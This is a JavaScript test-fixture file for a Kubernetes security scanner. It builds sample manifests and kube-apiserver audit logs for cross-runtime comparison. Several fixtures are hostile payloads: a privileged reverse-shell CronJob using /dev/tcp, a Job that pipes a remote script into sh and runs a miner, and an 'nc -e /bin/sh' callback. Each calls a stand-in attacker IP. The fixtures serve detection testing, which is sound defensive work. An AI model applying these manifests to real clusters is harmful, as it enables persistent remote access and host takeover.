// The one set of inputs every runtime analyses. Node's results are the reference; each other runtime
// must give byte-for-byte the same JSON. Inputs are plain data so they cross any boundary (postMessage,
// HTTP bodies, stdin) unchanged.
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { parseText } from '@jobsentinel/core';

// The public samples of ../shared/corpus, as the repository keeps them (with the core's tests).
const fixtures = new URL('../../packages/core/test/fixtures/', import.meta.url);
const readCorpus = (name) => readFileSync(new URL(`corpus/${name}`, fixtures), 'utf8');
const readCorpusAudit = (name) => new Uint8Array(readFileSync(new URL(`audit/corpus/${name}`, fixtures)));

export const ATOMIC_RED_TEAM_CRONJOB = readCorpus('atomic-red-team-T1053.007-cronjob.yaml');

/** A CronJob an attacker would leave behind: a reverse shell every minute, with the node's root at hand. */
export const REVERSE_SHELL_CRONJOB = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: log-rotate
  namespace: kube-system
spec:
  schedule: "*/1 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          hostNetwork: true
          hostPID: true
          restartPolicy: OnFailure
          containers:
          - name: rotate
            image: docker.io/library/alpine:3.20
            command: ["/bin/sh", "-c"]
            args:
            - apk add --no-cache bash && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
            securityContext:
              privileged: true
            volumeMounts:
            - name: host
              mountPath: /host
          volumes:
          - name: host
            hostPath:
              path: /
`;

/** Two documents: a Job that curls a script into a shell with the docker socket mounted, then a benign one. */
const DOWNLOAD_AND_RUN = `# jobs/maintenance.yaml
apiVersion: batch/v1
kind: Job
metadata:
  name: node-maintenance
spec:
  template:
    spec:
      containers:
      - name: run
        image: curlimages/curl:8.10.1
        command:
        - sh
        - -c
        - |
          curl -fsSL http://203.0.113.7/x.sh | sh
          chmod +x /tmp/miner && /tmp/miner
        securityContext:
          allowPrivilegeEscalation: true
          capabilities:
            add: ["SYS_ADMIN", "NET_RAW"]
        volumeMounts:
        - { name: sock, mountPath: /var/run/docker.sock }
      volumes:
      - name: sock
        hostPath: { path: /var/run/docker.sock, type: Socket }
      restartPolicy: Never
---
apiVersion: batch/v1
kind: Job
metadata:
  name: report
  labels: { tool: curl }
spec:
  template:
    spec:
      containers:
      - name: report
        image: ghcr.io/acme/superlative-reporter:1.4
        env:
        - { name: NOTE, value: "uses curl and /system paths" }
        securityContext: { privileged: false, readOnlyRootFilesystem: true }
      restartPolicy: Never
`;

/** JSON, and non-ASCII text before the finding: columns are UTF-16 code units in every runtime. */
const JSON_WITH_UNICODE = JSON.stringify(
  {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'sauvegarde-données', annotations: { description: 'nächtliche Sicherung 🌙 日本語' } },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              hostIPC: true,
              containers: [{ name: 'sauvegarde', image: 'kalilinux/kali-rolling@sha256:' + 'a'.repeat(64), args: ['échec → nc -e /bin/sh 203.0.113.7 4444'] }],
              restartPolicy: 'Never',
            },
          },
        },
      },
    },
  },
  null,
  2,
);

/** Broken input: the core reports it with a line and keeps going with the next document. */
const BROKEN_AND_TEMPLATED = `apiVersion: batch/v1
kind: Job
metadata:
  name: broken
spec:
  template: {{ .Values.template }}
---
- just
- a list
---
apiVersion: batch/v1
kind: Job
metadata: { name: still-checked }
spec:
  template:
    spec:
      containers:
      - name: x
        image: nmap
        securityContext: { privileged: true }
      restartPolicy: Never
---
key: [unclosed
`;

export const MANIFEST_CASES = [
  { name: 'Atomic Red Team T1053.007 CronJob', fileName: 'atomic-red-team-T1053.007-cronjob.yaml', text: ATOMIC_RED_TEAM_CRONJOB },
  { name: 'Kubernetes docs CronJob', fileName: 'kubernetes-docs-cronjob.yaml', text: readCorpus('kubernetes-docs-cronjob.yaml') },
  { name: 'Kubernetes docs Job', fileName: 'kubernetes-docs-job.yaml', text: readCorpus('kubernetes-docs-job.yaml') },
  { name: 'reverse-shell CronJob', fileName: 'log-rotate.yaml', text: REVERSE_SHELL_CRONJOB },
  { name: 'download-and-run Job beside a look-alike', fileName: 'jobs/maintenance.yaml', text: DOWNLOAD_AND_RUN },
  { name: 'JSON CronJob with non-ASCII text', fileName: 'sauvegarde.json', text: JSON_WITH_UNICODE },
  { name: 'broken and templated documents', fileName: 'broken.yaml', text: BROKEN_AND_TEMPLATED },
  { name: 'empty file', fileName: 'empty.yaml', text: '' },
];

/** The object a manifest's first document holds, as kubectl would send it. */
const objectOf = (text) => parseText(text).documents[0].value;

/** A Job wrapped into a CronJob, as an attacker who wants it to come back would. */
const scheduled = (job, schedule) => ({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: job.metadata, spec: { schedule, jobTemplate: { spec: job.spec } } });

/** A kube-apiserver audit event (audit.k8s.io/v1) with the fields a real one carries. */
function auditEvent({ id, stage = 'ResponseComplete', level = 'RequestResponse', verb, resource, subresource, namespace, name, user, code = 201, requestObject, time }) {
  const path = `/apis/batch/v1/namespaces/${namespace}/${resource}${verb === 'create' ? '' : `/${name}`}${subresource ? `/${subresource}` : ''}`;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level,
    auditID: id,
    stage,
    requestURI: path,
    verb,
    user: { username: user, groups: ['system:authenticated'] },
    sourceIPs: ['198.51.100.23'],
    userAgent: 'kubectl/v1.30.1 (linux/amd64) kubernetes/7c48c2b',
    objectRef: { resource, namespace, name, apiGroup: resource === 'leases' ? 'coordination.k8s.io' : 'batch', apiVersion: 'v1', ...(subresource ? { subresource } : {}) },
    ...(stage === 'ResponseComplete' ? { responseStatus: { metadata: {}, code } } : {}),
    ...(requestObject !== undefined && level !== 'Metadata' ? { requestObject } : {}),
    requestReceivedTimestamp: time,
    stageTimestamp: time,
  };
}

const T = '2026-11-02T03:14:';
/** A day in a cluster, shortened: noise, an attack that gets through, one that is denied, and what cannot be seen. */
const AUDIT_EVENTS = [
  auditEvent({ id: 'a0', verb: 'update', resource: 'leases', namespace: 'kube-system', name: 'kube-scheduler', user: 'system:kube-scheduler', code: 200, requestObject: { kind: 'Lease' }, time: T + '00.100000Z' }),
  auditEvent({ id: 'a1', stage: 'RequestReceived', verb: 'create', resource: 'cronjobs', namespace: 'kube-system', name: 'log-rotate', user: 'mallory', requestObject: objectOf(REVERSE_SHELL_CRONJOB), time: T + '01.000000Z' }),
  auditEvent({ id: 'a1', verb: 'create', resource: 'cronjobs', namespace: 'kube-system', name: 'log-rotate', user: 'mallory', requestObject: objectOf(REVERSE_SHELL_CRONJOB), time: T + '01.020000Z' }),
  auditEvent({
    id: 'a2', verb: 'patch', resource: 'jobs', namespace: 'reports', name: 'nightly-report', user: 'mallory', code: 200, time: T + '02.000000Z',
    requestObject: [{ op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } }],
  }),
  auditEvent({ id: 'a3', level: 'Metadata', verb: 'create', resource: 'jobs', namespace: 'batch', name: 'etl', user: 'ci-bot', time: T + '03.000000Z' }),
  auditEvent({ id: 'a4', verb: 'create', resource: 'cronjobs', namespace: 'default', name: 'sock', user: 'eve', code: 403, time: T + '04.000000Z', requestObject: scheduled(objectOf(DOWNLOAD_AND_RUN), '0 * * * *') }),
  auditEvent({ id: 'a5', verb: 'update', resource: 'cronjobs', subresource: 'status', namespace: 'kube-system', name: 'log-rotate', user: 'system:kube-controller-manager', code: 200, requestObject: { kind: 'CronJob', status: {} }, time: T + '05.000000Z' }),
  auditEvent({ id: 'a6', verb: 'create', resource: 'jobs', namespace: 'reports', name: 'weekly', user: 'alice', time: T + '06.000000Z', requestObject: objectOf('apiVersion: batch/v1\nkind: Job\nmetadata: { name: weekly, namespace: reports }\nspec:\n  template:\n    spec:\n      containers: [{ name: report, image: ghcr.io/acme/report:2.1 }]\n      restartPolicy: Never\n') }),
];

const jsonLines = AUDIT_EVENTS.map((event) => JSON.stringify(event));
/** kube-apiserver's log file: one event per line, with one line cut short by a crash. */
const KUBE_APISERVER_LOG = new TextEncoder().encode([...jsonLines.slice(0, 4), '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"cut', ...jsonLines.slice(4)].join('\n') + '\n');
/** A webhook batch: the same requests as one EventList document. */
const EVENT_LIST = new TextEncoder().encode(JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: AUDIT_EVENTS }, null, 1));

export const AUDIT_CASES = [
  { name: 'kube-apiserver JSON lines', fileName: 'kube-apiserver-audit.log', bytes: KUBE_APISERVER_LOG },
  { name: 'kube-apiserver JSON lines, gzip', fileName: 'kube-apiserver-audit.log.gz', bytes: new Uint8Array(gzipSync(KUBE_APISERVER_LOG)) },
  { name: 'EventList (webhook batch)', fileName: 'webhook-batch.json', bytes: EVENT_LIST },
  { name: 'Elastic integration test event (Metadata level)', fileName: 'elastic-integration-test-audit.log', bytes: readCorpusAudit('elastic-integration-test-audit.log') },
  { name: 'AKS diagnostic export', fileName: 'aks-kube-audit.log', bytes: readCorpusAudit('aks-kube-audit.log') },
  { name: 'Falco pod creations (not jobs)', fileName: 'falco-k8s-audit-pods.log', bytes: readCorpusAudit('falco-k8s-audit-pods.log') },
  { name: 'not an audit log', fileName: 'notes.txt', bytes: new TextEncoder().encode('hello\nthis is not JSON\n') },
];

/** The audit scan's result as plain data (its formats are a Set). */
export function auditResult({ matches, summary, problems, formats }) {
  return comparable({ matches, summary, problems, formats: [...formats] });
}

/** What crosses a runtime boundary: a JSON round trip drops nothing the findings need. */
export function comparable(result) {
  return JSON.parse(JSON.stringify(result));
}
